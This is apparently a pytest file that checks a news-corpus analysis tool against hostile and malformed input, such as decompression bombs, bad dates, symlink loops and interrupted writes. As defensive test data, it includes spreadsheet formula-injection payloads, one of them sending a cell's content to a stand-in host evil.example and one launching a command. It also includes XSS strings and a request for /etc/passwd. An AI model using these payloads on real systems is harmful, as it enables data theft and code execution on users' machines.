"""Hostile and malformed input (issue 15): nothing lost, nothing run, nothing crashes, nothing outside --out touched.

Every input here is small and written by the test itself. Each test names the class of input it stands for; the
end-to-end test at the bottom ingests, analyses and renders reports from a hostile corpus.
"""

from __future__ import annotations

import csv
import gzip
import json
import os
import signal
import socket
from pathlib import Path

import pandas as pd
import pytest

from analysis import cli, codesheets, dates, ingest, outputs, pipeline, sources, tables
from analysis.errors import DataUnavailableError, InputError, ParameterError, SchemaError
from analysis.periods import parse_date

STORY = (
    "Government forces advanced on the eastern districts of the city on Tuesday, residents said.\n"
    "Aid groups warned that thousands of families were trapped without water or power."
)


def _story(i: int) -> str:
    return f"Report number {i}. " + STORY


def _ingest(inputs, out: Path, **options) -> ingest.IngestResult:
    return ingest.ingest(
        [str(i) for i in inputs], out / "articles.parquet", options=ingest.IngestOptions(progress=False, **options)
    )


def _csv(path: Path, rows: list[list[str]], header=("id", "title", "date", "text")) -> Path:
    with open(path, "w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(header)
        w.writerows(rows)
    return path


def _accounted(res: ingest.IngestResult) -> None:
    """Every file read is in the corpus or the rejects, and every row count adds up."""
    seen = set(res.corpus["source_path"]) | set(res.rejects["path"])
    assert {i["path"] for i in res.manifest["inputs"]} <= seen
    c = res.manifest["counts"]
    assert c["rows"] == c["articles"] + c["rejected_rows"]
    assert c["rejected"] == len(res.rejects)


# --- CSV rows ---------------------------------------------------------------------------------------------------


def test_short_row_is_rejected_with_its_line_not_padded(tmp_path):
    f = tmp_path / "wire.csv"
    f.write_text(
        "id,title,date,text\n"
        f'1,First,2017-01-04,"{_story(1)}"\n'
        f'2,"{_story(2)}",2017-01-05\n'  # a field missing: pandas padded it, the story landed in title
        f'3,Third,2017-01-06,"{_story(3)}"\n',
        encoding="utf-8",
    )
    res = _ingest([f], tmp_path / "out")
    assert sorted(res.corpus["source_id"]) == ["1", "3"]
    assert not (res.corpus["text"] == "2017-01-05").any()
    rej = res.rejects.iloc[0]
    assert rej["reason"] == "malformed_row" and "line 4" in rej["detail"] and "3 fields" in rej["detail"]
    _accounted(res)


def test_unterminated_quote_costs_one_row(tmp_path):
    f = tmp_path / "wire.csv"
    lines = ["id,title,date,text", f'1,One,2017-01-04,"{_story(1)}"', '2,"Unclosed title,2017-01-05,Short story.']
    lines += [f'{i},T{i},2017-01-0{i},"{_story(i)}"' for i in range(3, 8)]  # quoted cells spanning two lines
    f.write_text("\n".join(lines) + "\n", encoding="utf-8")
    res = _ingest([f], tmp_path / "out")
    assert sorted(res.corpus["source_id"]) == ["1", "3", "4", "5", "6", "7"]
    assert list(res.rejects["reason"]) == ["malformed_row"]
    detail = res.rejects["detail"].iloc[0]
    assert detail.startswith("line 4:") and "unterminated quote" in detail  # row 1 spans lines 2-3
    assert res.corpus["text"].str.len().max() < 400  # nothing swallowed into one article
    _accounted(res)


def test_ragged_row_and_huge_cell_reject_only_the_row(tmp_path):
    huge = "The siege went on. " * 12_000  # about 230 KB in one cell (csv's default limit is 128 KB)
    f = _csv(
        tmp_path / "wire.csv",
        [["1", "Long", "2017-01-04", huge], ["2", "Ragged", "2017-01-05", "x", "extra"], ["3", "Ok", "", _story(3)]],
    )
    res = _ingest([f], tmp_path / "out")
    assert sorted(res.corpus["source_id"]) == ["1", "3"]
    assert res.corpus["n_words"].max() > 40_000
    assert list(res.rejects["reason"]) == ["malformed_row"] and "5 fields" in res.rejects["detail"].iloc[0]


def test_duplicate_blank_and_underscore_columns_are_kept(tmp_path):
    f = _csv(
        tmp_path / "wire.csv",
        [["1", "A", "B", "x", "meta", _story(1)]],
        header=("id", "title", "title", "", "_internal", "text"),
    )
    res = _ingest([f], tmp_path / "out")
    art = res.corpus.iloc[0]
    assert art["title_2"] == "B" and art["column_4"] == "x" and art["src__internal"] == "meta"


# --- dates ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("raw", ["1500-01-01", "2300-01-01", "9999-12-31", "2017-02-30", "0000-00-00", "31/31/2017"])
def test_bad_csv_date_is_null_with_raw_value_and_warning(tmp_path, raw, caplog):
    f = _csv(tmp_path / "wire.csv", [["1", "A", raw, _story(1)], ["2", "B", "2017-03-01", _story(2)]])
    res = _ingest([f], tmp_path / "out")
    bad = res.corpus[res.corpus["source_id"] == "1"].iloc[0]
    assert pd.isna(bad["published"]) and bad["published_raw"] == raw
    good = res.corpus[res.corpus["source_id"] == "2"].iloc[0]
    assert good["published"] == pd.Timestamp("2017-03-01")
    assert res.manifest["dates"]["unreadable"][0]["raw"] == raw
    assert any(raw in r.getMessage() for r in caplog.records)


def test_bad_dates_in_sidecar_and_front_matter(tmp_path):
    src = tmp_path / "in"
    src.mkdir()
    (src / "a.txt").write_text(_story(1), encoding="utf-8")
    (src / "a.meta.json").write_text(json.dumps({"date": "9999-12-31", "outlet": "Desk"}), encoding="utf-8")
    (src / "b.txt").write_text(f"---\ndate: 1500-01-01\ntitle: Old\n---\n{_story(2)}", encoding="utf-8")
    (src / "c.txt").write_text(f"---\ndate: 2017-02-30\n---\n{_story(3)}", encoding="utf-8")
    (src / "d.txt").write_text(f"---\ndate: 2017-02-28\n---\n{_story(4)}", encoding="utf-8")
    res = _ingest([src], tmp_path / "out")
    by_name = res.corpus.set_index(res.corpus["source_path"].map(lambda p: Path(p).name))
    assert by_name.loc["a.txt", "published_raw"] == "9999-12-31" and pd.isna(by_name.loc["a.txt", "published"])
    assert by_name.loc["b.txt", "published_raw"] == "1500-01-01" and pd.isna(by_name.loc["b.txt", "published"])
    assert by_name.loc["c.txt", "published_raw"] == "2017-02-30" and pd.isna(by_name.loc["c.txt", "published"])
    assert by_name.loc["d.txt", "published"] == pd.Timestamp("2017-02-28")
    problems = {Path(u["path"]).name: u["problem"] for u in res.manifest["dates"]["unreadable"]}
    assert problems == {"a.txt": "out_of_range", "b.txt": "out_of_range", "c.txt": "impossible"}


def test_day_month_order_is_decided_once_per_run_and_recorded(tmp_path):
    src = tmp_path / "in"
    src.mkdir()
    _csv(src / "a.csv", [["1", "A", "13/01/2017", _story(1)], ["2", "B", "04/05/2017", _story(2)]])
    _csv(src / "b.csv", [["3", "C", "04/05/2017", _story(3)], ["4", "D", "02/03/2017", _story(4)]])
    res = _ingest([src], tmp_path / "out")
    got = dict(zip(res.corpus["source_id"], res.corpus["published"]))
    assert got["2"] == got["3"] == pd.Timestamp("2017-05-04")  # the same string reads the same in both files
    assert got["4"] == pd.Timestamp("2017-03-02") and got["1"] == pd.Timestamp("2017-01-13")
    assert res.manifest["dates"]["order"] == "dmy" and res.manifest["dates"]["day_first_only"] == 1
    forced = _ingest([src], tmp_path / "out2", date_order="mdy")
    got = dict(zip(forced.corpus["source_id"], forced.corpus["published"]))
    assert got["3"] == pd.Timestamp("2017-04-05") and forced.manifest["dates"]["source"] == "option"


def test_date_parser_never_raises_on_hostile_strings():
    for raw in ["9" * 400, "2017-99-99", "-1/-1/-1", "\x00", "31 Febtember 2017", "1e309", True, 10**30, 20170105]:
        value, problem = dates.parse_date(raw)
        assert value is None or dates.DATE_MIN <= value <= dates.DATE_MAX
    assert dates.parse_date(20170105)[0] == pd.Timestamp("2017-01-05")


# --- types ------------------------------------------------------------------------------------------------------


def test_jsonl_text_that_is_not_a_string_is_rejected(tmp_path):
    f = tmp_path / "feed.jsonl"
    rows = [{"text": _story(1)}, {"text": 12345}, {"text": True}, {"text": {"a": 1}}, {"text": [1]}, {"text": None}]
    f.write_text("\n".join(json.dumps(r) for r in rows) + "\n" + '{"text": NaN}\n' + "[" * 100_000 + "\n")
    res = _ingest([f], tmp_path / "out")
    assert len(res.corpus) == 1
    reasons = dict(zip(res.rejects["row"], res.rejects["reason"]))
    assert reasons == {
        2: "bad_text_type",
        3: "bad_text_type",
        4: "bad_text_type",
        5: "bad_text_type",
        6: "empty_text",
        7: "empty_text",
        8: "malformed_json",
    }
    assert "int" in res.rejects.set_index("row").loc[2, "detail"]
    _accounted(res)


def test_nested_metadata_is_rejected_not_expanded(tmp_path):
    bomb = "---\na: &a [x, x, x, x, x, x, x, x, x]\n"
    for i in range(1, 9):
        bomb += f"{chr(97 + i)}: &{chr(97 + i)} [*{chr(96 + i)}, *{chr(96 + i)}, *{chr(96 + i)}, *{chr(96 + i)}]\n"
    bomb += "title: *i\n---\n" + _story(1)
    (tmp_path / "bomb.txt").write_text(bomb, encoding="utf-8")
    res = _ingest([tmp_path / "bomb.txt"], tmp_path / "out")
    assert list(res.rejects["reason"]) == ["bad_metadata"]


# --- folders and files -------------------------------------------------------------------------------------------


def test_every_skip_is_listed_with_its_reason(tmp_path, monkeypatch):
    src = tmp_path / "in"
    (src / "sub").mkdir(parents=True)
    (src / ".hidden").mkdir()
    (src / "locked").mkdir()
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "linked.txt").write_text(_story(1))
    (src / "sub" / "a.txt").write_text(_story(2))
    (src / ".hidden" / "b.txt").write_text(_story(3))
    (src / "locked" / "c.txt").write_text(_story(4))
    (src / "README.md").write_text("notes")
    os.symlink(elsewhere, src / "link")  # a symlinked folder is followed, once
    os.symlink(src, src / "sub" / "loop")  # a loop is a skip, not an endless walk
    real_scandir = os.scandir

    def scandir(path="."):  # root reads any folder: make "locked" unreadable for the walk itself
        if os.fspath(path).endswith("locked"):
            raise PermissionError(13, "Permission denied", os.fspath(path))
        return real_scandir(path)

    monkeypatch.setattr(os, "scandir", scandir)
    files, skips = ingest.find_input_files([src])
    assert sorted(Path(f).name for f in files) == ["a.txt", "linked.txt"]
    reasons = {Path(s["path"]).name: s["reason"] for s in skips}
    assert reasons == {
        ".hidden": "hidden_folder",
        "README.md": "documentation",
        "locked": "unreadable_folder",
        "loop": "same_folder",
    }


def test_alias_paths_are_read_once(tmp_path):
    seeds = tmp_path / "seeds"
    seeds.mkdir()
    (seeds / "x.txt").write_text(_story(1))
    os.symlink(seeds / "x.txt", seeds / "y.txt")
    res = _ingest([seeds / ".." / "seeds" / "x.txt", seeds / "x.txt", seeds], tmp_path / "out")
    assert len(res.corpus) == 1
    assert {s["reason"] for s in res.manifest["skipped"]} == {"same_file"}
    assert len(res.manifest["skipped"]) == 3


def test_out_inside_the_input_folder_does_not_ingest_its_outputs(tmp_path):
    src = tmp_path / "raw"
    src.mkdir()
    (src / "a.txt").write_text(_story(1))
    first = _ingest([src], src)
    second = _ingest([src], src)
    assert len(first.corpus) == len(second.corpus) == 1 and second.rejects.empty
    own = {Path(s["path"]).name for s in second.manifest["skipped"] if s["reason"] == "own_output"}
    assert {"articles.parquet", "rejects.parquet", "removed_spans.parquet", "ingest_manifest.json"} <= own


def test_random_bytes_are_rejected_not_kept_as_mojibake(tmp_path):
    import random

    rng = random.Random(15)
    (tmp_path / "noise.txt").write_bytes(bytes(rng.randrange(0x20, 0x100) for _ in range(20_000)))
    (tmp_path / "noise.csv").write_bytes(b"id,text\n" + bytes(rng.randrange(0x20, 0x100) for _ in range(20_000)))
    res = _ingest([tmp_path / "noise.txt", tmp_path / "noise.csv"], tmp_path / "out")
    assert res.corpus.empty and set(res.rejects["reason"]) == {"undecodable"}


def _alarm(seconds: int):
    def fail(signum, frame):
        raise AssertionError("ingest blocked")

    signal.signal(signal.SIGALRM, fail)
    signal.alarm(seconds)


def test_fifo_socket_and_dev_zero_are_rejected_without_blocking(tmp_path):
    src = tmp_path / "in"
    src.mkdir()
    os.mkfifo(src / "pipe.txt")
    os.symlink("/dev/zero", src / "zero.txt")
    sock = socket.socket(socket.AF_UNIX)
    sock.bind(str(src / "s.txt"))
    (src / "ok.txt").write_text(_story(1))
    _alarm(60)
    try:
        res = _ingest([src], tmp_path / "out")
    finally:
        signal.alarm(0)
        sock.close()
    assert len(res.corpus) == 1
    assert dict(zip(res.rejects["path"].map(lambda p: Path(p).name), res.rejects["reason"])) == {
        "pipe.txt": "not_a_file",
        "zero.txt": "not_a_file",
        "s.txt": "not_a_file",
    }


def test_gzip_bomb_and_oversize_file_are_rejections(tmp_path):
    with gzip.open(tmp_path / "bomb.txt.gz", "wb") as fh:
        for _ in range(24):
            fh.write(b"a" * 2**20)  # 24 MB of text in a file of a few KB
    (tmp_path / "big.txt").write_bytes(b"word " * (3 * 2**20 // 5))
    two = gzip.compress(_story(1).encode()) + gzip.compress(b"\n" + _story(2).encode())  # two gzip members
    (tmp_path / "two.txt.gz").write_bytes(two)
    res = _ingest(
        [tmp_path / "bomb.txt.gz", tmp_path / "big.txt", tmp_path / "two.txt.gz"], tmp_path / "out", max_file_mb=2
    )
    assert list(res.corpus["source_path"].map(lambda p: Path(p).name)) == ["two.txt.gz"]
    assert "Report number 2" in res.corpus["text"].iloc[0]
    assert set(res.rejects["reason"]) == {"too_large"} and len(res.rejects) == 2


def test_zip_bomb_docx_is_a_rejection(tmp_path):
    import zipfile

    with zipfile.ZipFile(tmp_path / "bomb.docx", "w", compression=zipfile.ZIP_DEFLATED) as z:
        z.writestr("word/document.xml", b"<w:t>" + b"a" * (6 * 2**20) + b"</w:t>")
    res = _ingest([tmp_path / "bomb.docx"], tmp_path / "out", max_file_mb=2)
    assert list(res.rejects["reason"]) == ["too_large"] and "unpacked" in res.rejects["detail"].iloc[0]


def test_file_names_that_are_not_utf8_or_hold_control_characters(tmp_path, capsys):
    src = tmp_path / "in"
    src.mkdir()
    with open(os.path.join(os.fsencode(src), b"caf\xe9.txt"), "w") as fh:
        fh.write(_story(1))
    (src / "esc\x1b[2J.txt").write_text(_story(2))
    assert cli.main(["ingest", str(src), "--out", str(tmp_path / "out" / "a.parquet"), "--no-progress"]) == 0
    corpus = ingest.load_corpus(tmp_path / "out" / "a.parquet")
    names = sorted(Path(p).name for p in corpus["source_path"])
    assert names == ["caf\\xe9.txt", "esc\\x1b[2J.txt"]
    assert "\x1b" not in capsys.readouterr().out


def test_out_is_checked_before_any_work(tmp_path, monkeypatch, capsys):
    (tmp_path / "a.txt").write_text(_story(1))
    (tmp_path / "file").write_text("in the way")

    def no_work(*a, **k):
        raise AssertionError("ingest read its inputs before checking --out")

    monkeypatch.setattr(ingest, "ingest_files", no_work)
    for out in (tmp_path / "file" / "articles.parquet", Path("/proc/conflict-news-test/articles.parquet")):
        assert cli.main(["ingest", str(tmp_path / "a.txt"), "--out", str(out), "--no-progress"]) == 2
        err = capsys.readouterr().err
        assert err.startswith("error: --out") and "internal error" not in err
    monkeypatch.setattr(pipeline, "open_corpus", no_work)
    assert cli.main(["analyze", "c.parquet", "--out", str(tmp_path / "file" / "x"), "--no-progress"]) == 2


# --- interrupted writes and debris --------------------------------------------------------------------------------


def _snapshot(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir()) if p.is_file()}


def test_sigterm_before_the_switch_leaves_the_old_set_and_no_debris(tmp_path, monkeypatch, capsys):
    (tmp_path / "a.txt").write_text(_story(1))
    out = tmp_path / "out"
    assert cli.main(["ingest", str(tmp_path / "a.txt"), "--out", str(out / "articles.parquet"), "--no-progress"]) == 0
    before = _snapshot(out)
    (tmp_path / "b.txt").write_text(_story(2))
    real = tables.save_table

    def killed(df, path):
        real(df, path)
        if Path(path).name == "rejects.parquet":
            os.kill(os.getpid(), signal.SIGTERM)  # arrives while the set is being written

    monkeypatch.setattr(ingest, "save_table", killed)
    assert cli.main(["ingest", str(tmp_path), "--out", str(out / "articles.parquet"), "--no-progress"]) == 130
    assert "discarded" in capsys.readouterr().err
    assert _snapshot(out) == before
    assert sorted(p.name for p in out.iterdir()) == sorted(before)  # no staging folder, no .tmp file


def test_signal_during_the_final_moves_completes_the_switch(tmp_path, monkeypatch, capsys):
    (tmp_path / "a.txt").write_text(_story(1))
    out = tmp_path / "out"
    _ingest([tmp_path / "a.txt"], out)
    (tmp_path / "b.txt").write_text(_story(2))
    real, calls = os.replace, []

    def replace(src, dst):
        if Path(dst).parent == out:  # a move into place, not a write inside the staging folder
            calls.append(dst)
            if len(calls) == 2:
                os.kill(os.getpid(), signal.SIGINT)
        return real(src, dst)

    monkeypatch.setattr(outputs.os, "replace", replace)
    assert cli.main(["ingest", str(tmp_path), "--out", str(out / "articles.parquet"), "--no-progress"]) == 130
    monkeypatch.setattr(outputs.os, "replace", real)
    assert "complete" in capsys.readouterr().err
    corpus = ingest.load_corpus(out / "articles.parquet")
    manifest = json.loads((out / ingest.MANIFEST_NAME).read_text())
    assert len(corpus) == 2 == manifest["counts"]["articles"]


def test_a_set_killed_mid_switch_is_refused_until_rewritten(tmp_path, monkeypatch):
    (tmp_path / "a.txt").write_text(_story(1))
    out = tmp_path / "out"
    _ingest([tmp_path / "a.txt"], out)
    real, calls = os.replace, []

    def replace(src, dst):  # stands for SIGKILL or a power cut between two moves into place
        if Path(dst).parent == out:
            calls.append(dst)
            if len(calls) == 2:
                raise OSError(5, "Input/output error")
        return real(src, dst)

    monkeypatch.setattr(outputs.os, "replace", replace)
    with pytest.raises(OSError):
        _ingest([tmp_path / "a.txt"], out)
    monkeypatch.setattr(outputs.os, "replace", real)
    with pytest.raises(InputError, match="incomplete"):
        ingest.load_corpus(out / "articles.parquet")
    with pytest.raises(InputError, match="incomplete"):
        pipeline.analyze_corpus(out / "articles.parquet", tmp_path / "analysis", progress=False)
    _ingest([tmp_path / "a.txt"], out)
    assert len(ingest.load_corpus(out / "articles.parquet")) == 1


def test_debris_of_earlier_runs_is_cleaned(tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    host = outputs._host()
    dead = 2**22 + 12345  # above the kernel's default pid_max: no such process
    (out / f".ingest.staging-{host}-{dead}-abc").mkdir()
    (out / f".ingest.staging-{host}-{dead}-abc" / "articles.parquet").write_bytes(b"PAR1 no footer")
    (out / f".articles.parquet.{dead}.x1.tmp").write_bytes(b"half")
    (out / ".analyze-old1").mkdir()
    (out / f".ingest.staging-{host}-{os.getpid()}-live").mkdir()  # a live run's folder is left alone
    (tmp_path / "a.txt").write_text(_story(1))
    _ingest([tmp_path / "a.txt"], out)
    _ingest([tmp_path / "a.txt"], out)  # the ledger now names articles.parquet: its temp files are debris
    left = sorted(p.name for p in out.iterdir() if p.name.startswith("."))
    assert left == [".ingest.files.json", f".ingest.staging-{host}-{os.getpid()}-live"]


def test_deferred_signals_hold_sigterm_until_the_block_ends():
    got = []
    with pytest.raises(outputs.InterruptedAfterCommit):
        with outputs.deferred_signals():
            os.kill(os.getpid(), signal.SIGTERM)
            got.append("still running")
    assert got == ["still running"]


# --- analyze ------------------------------------------------------------------------------------------------------


def _corpus_file(tmp_path: Path) -> Path:
    (tmp_path / "src").mkdir(exist_ok=True)
    for i in range(3):
        (tmp_path / "src" / f"s{i}.txt").write_text(_story(i))
    _ingest([tmp_path / "src"], tmp_path / "corpus")
    return tmp_path / "corpus" / "articles.parquet"


def test_analyze_never_deletes_what_an_old_manifest_names(tmp_path):
    corpus = _corpus_file(tmp_path)
    out = tmp_path / "analysis"
    out.mkdir()
    victim = tmp_path / "victim.parquet"
    victim.write_bytes(b"precious")
    absolute = tmp_path / "abs"
    absolute.mkdir()
    (absolute / "x.parquet").write_bytes(b"precious")
    (out / "notes.parquet").write_bytes(b"the user's own file")
    hostile = {"tables": {"../victim": {}, str(absolute / "x"): {}, "notes": {}, "documents": {}}}
    (out / "manifest.json").write_text(json.dumps(hostile))
    stages = ["analysis.sentiment:analyze_chunk"]
    pipeline.analyze_corpus(corpus, out, progress=False, stages=stages)
    pipeline.analyze_corpus(corpus, out, progress=False, stages=[])  # fewer tables: only its own old ones go
    assert victim.read_bytes() == b"precious" and (absolute / "x.parquet").read_bytes() == b"precious"
    assert (out / "notes.parquet").read_bytes() == b"the user's own file"
    assert (
        not (out / "sentences_sentiment.parquet").exists()
        or "sentences_sentiment" not in pipeline.load_analysis(out).tables
    )
    a = pipeline.load_analysis(out)
    assert "notes" not in a.tables and set(a.tables) == set(a.manifest["tables"])


def test_analyze_refuses_a_corpus_whose_text_is_not_text(tmp_path, mini_corpus, capsys):
    bad = mini_corpus.copy()
    bad["text"] = range(len(bad))
    tables.save_table(bad, tmp_path / "c.parquet")
    assert cli.main(["analyze", str(tmp_path / "c.parquet"), "--out", str(tmp_path / "a"), "--no-progress"]) == 2
    assert "column text" in capsys.readouterr().err
    with pytest.raises(SchemaError):
        ingest.load_corpus(tmp_path / "c.parquet")


# --- validation sheets ------------------------------------------------------------------------------------------


def test_codesheet_neutralises_formulas(tmp_path, mini_corpus):
    sample = mini_corpus.copy()
    payloads = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1)", "\tx", "\r=1"]
    sample["title"] = (payloads * 2)[: len(sample)]
    sample["outlet"] = "=cmd|' /C calc'!A0"
    sample["stratum"] = "all"
    path = codesheets.save_codesheet(sample, None, tmp_path / "sheet.csv")
    with open(path, newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    cells = [r["title"] for r in rows[1:]] + [r["outlet"] for r in rows[1:]]
    assert all(c.startswith("'") for c in cells)
    assert rows[1]["title"] == "'" + payloads[0]


def test_validate_with_an_empty_or_blank_sheet_is_a_clear_error(tmp_path, capsys):
    (tmp_path / "empty.csv").write_text("")
    (tmp_path / "blank.csv").write_text("doc_id,coder,conflict.reproach\n,,\n")
    for sheet in ("empty.csv", "blank.csv"):
        rc = cli.main(["validate", str(tmp_path / sheet), "--analysis-dir", str(tmp_path)])
        err = capsys.readouterr().err
        assert rc == 2 and err.startswith("error:") and "internal error" not in err


# --- report parameters ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("value", ["now", "today", "31/12/2017", "2017-12-31T00:00", "2017-02-30", "9999-12-31", 5])
def test_dates_parameters_are_yyyy_mm_dd_only(value):
    with pytest.raises(ParameterError, match="YYYY-MM-DD"):
        parse_date(value, name="end")
    assert parse_date("2017-12-31") == pd.Timestamp("2017-12-31")


def test_display_path_escapes_what_cannot_be_written():
    assert sources.display_path(os.fsdecode(b"a\xff\nb")) == "a\\xff\\x0ab"


def test_fetch_data_cleans_debris_and_checks_dest_first(tmp_path, capsys):
    from analysis import datasets

    raw = tmp_path / "raw"
    raw.mkdir()
    dead = 2**22 + 54321
    (raw / f".FA-KES-Dataset.csv.{dead}.abc.tmp").write_bytes(b"half a download")
    try:  # offline: a verified copy from ../shared when present, else an error; either way the debris goes
        datasets.fetch_dataset("fakes", dest_dir=raw, offline=True, local=tmp_path / "none.csv")
    except DataUnavailableError:
        pass
    assert not list(raw.glob(".*.tmp"))
    (tmp_path / "file").write_text("x")
    assert cli.main(["fetch-data", "--dest", str(tmp_path / "file" / "raw"), "--offline"]) == 2
    assert capsys.readouterr().err.startswith("error: --dest")


@pytest.mark.parametrize("pattern", ["", "   ", [], [""]])
def test_kwic_refuses_an_empty_keyword(mini_corpus, pattern):
    from analysis import concordance

    with pytest.raises(ParameterError, match="empty"):
        concordance.find_kwic(mini_corpus, pattern)


@pytest.fixture(scope="module")
def analysed(tmp_path_factory):
    base = tmp_path_factory.mktemp("analysed")
    corpus = _corpus_file(base)
    pipeline.analyze_corpus(corpus, base / "analysis", progress=False)
    return corpus, base / "analysis"


@pytest.mark.parametrize(
    "params",
    [["keyword", ""], ["keyword", "  "], ["end", "now"], ["start", "31/12/2017"], ["end", "2017-02-30"]],
)
def test_report_parameters_are_checked_before_any_kernel_starts(analysed, tmp_path, monkeypatch, capsys, params):
    from analysis import render

    def no_kernel(*a, **k):
        raise AssertionError("a kernel started before the parameters were checked")

    monkeypatch.setattr(render, "_execute", no_kernel)
    corpus, analysis = analysed
    out = tmp_path / "reports"
    argv = ["report", "explore", "--corpus", str(corpus), "--analysis", str(analysis), "--out", str(out)]
    assert cli.main([*argv, "-p", *params]) == 2
    err = capsys.readouterr().err
    assert err.startswith("error:") and params[0] in err
    assert not out.exists()


def test_report_tables_escape_text_from_data():
    from analysis import notebook

    df = pd.DataFrame(
        {
            "outlet": ["<script>alert(1)</script>", "</table><h1>x</h1>"],
            "outlets": [["<b>a</b>", "<i>b</i>"], []],
            "<img src=x onerror=alert(1)>": [1, 2],
        }
    )
    html_out = notebook.render_table(df, caption="<svg onload=alert(1)>")
    for live in ("<script>", "<h1>", "<b>", "<i>", "<img", "<svg", "</table><h1>"):
        assert live not in html_out
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html_out and "&lt;b&gt;a&lt;/b&gt;" in html_out


def test_pdf_url_fetcher_serves_only_the_reports_own_files(tmp_path):
    from analysis import htmlsafe

    (tmp_path / "figures").mkdir()
    (tmp_path / "figures" / "a.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    fetch = htmlsafe.make_url_fetcher(tmp_path)
    assert fetch((tmp_path / "figures" / "a.png").as_uri())
    assert fetch("data:image/png;base64,iVBORw0KGgo=")
    for url in (
        "http://127.0.0.1:9/x.png",
        "https://example.org/",
        "file:///etc/passwd",
        "ftp://x/y",
        (tmp_path.parent / "other.png").as_uri(),
        "data:text/html,<script>alert(1)</script>",
    ):
        with pytest.raises(htmlsafe.RefusedURL):
            fetch(url)


def test_pdf_export_fetches_no_url_from_the_page(tmp_path):
    import threading
    from http.server import BaseHTTPRequestHandler, HTTPServer

    from weasyprint import HTML

    from analysis import render

    hits = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802 - http.server's name
            hits.append(self.path)
            self.send_response(404)
            self.end_headers()

        def log_message(self, *args):
            pass

    server = HTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    url = f"http://127.0.0.1:{server.server_address[1]}"
    page = tmp_path / "r.html"
    page.write_text(
        f'<html><head><link rel="stylesheet" href="{url}/c.css"></head><body><p>text</p>'
        f'<img src="{url}/a.png"><img src="file:///etc/hostname"></body></html>'
    )
    try:
        render.export_pdf(page, tmp_path / "r.pdf")
        assert (tmp_path / "r.pdf").read_bytes().startswith(b"%PDF") and hits == []
        HTML(filename=str(page)).write_pdf(str(tmp_path / "plain.pdf"))  # WeasyPrint's default fetcher does fetch
        assert hits
    finally:
        server.shutdown()


def test_each_report_run_has_a_private_kernel_runtime_dir():
    import shutil
    import tempfile

    from analysis import render

    one, two = Path(tempfile.mkdtemp(prefix="cn-t-")), Path(tempfile.mkdtemp(prefix="cn-t-"))  # as _execute makes
    try:
        manager, other = render._kernel_manager_class(one)(), render._kernel_manager_class(two)()
        assert Path(manager.connection_file).parent == one and Path(other.connection_file).parent == two
        assert manager.transport == "ipc" and Path(manager.ip).parent == one and Path(other.ip).parent == two
        # the kernel's own runtime files: set in its environment only, not in this process (threads render at once)
        import asyncio
        import os

        before = os.environ.get("JUPYTER_RUNTIME_DIR")
        _, launch = asyncio.run(render._kernel_manager_class(one)(kernel_name="python3")._async_pre_start_kernel())
        assert launch["env"]["JUPYTER_RUNTIME_DIR"] == str(one) and os.environ.get("JUPYTER_RUNTIME_DIR") == before
    finally:
        shutil.rmtree(one), shutil.rmtree(two)
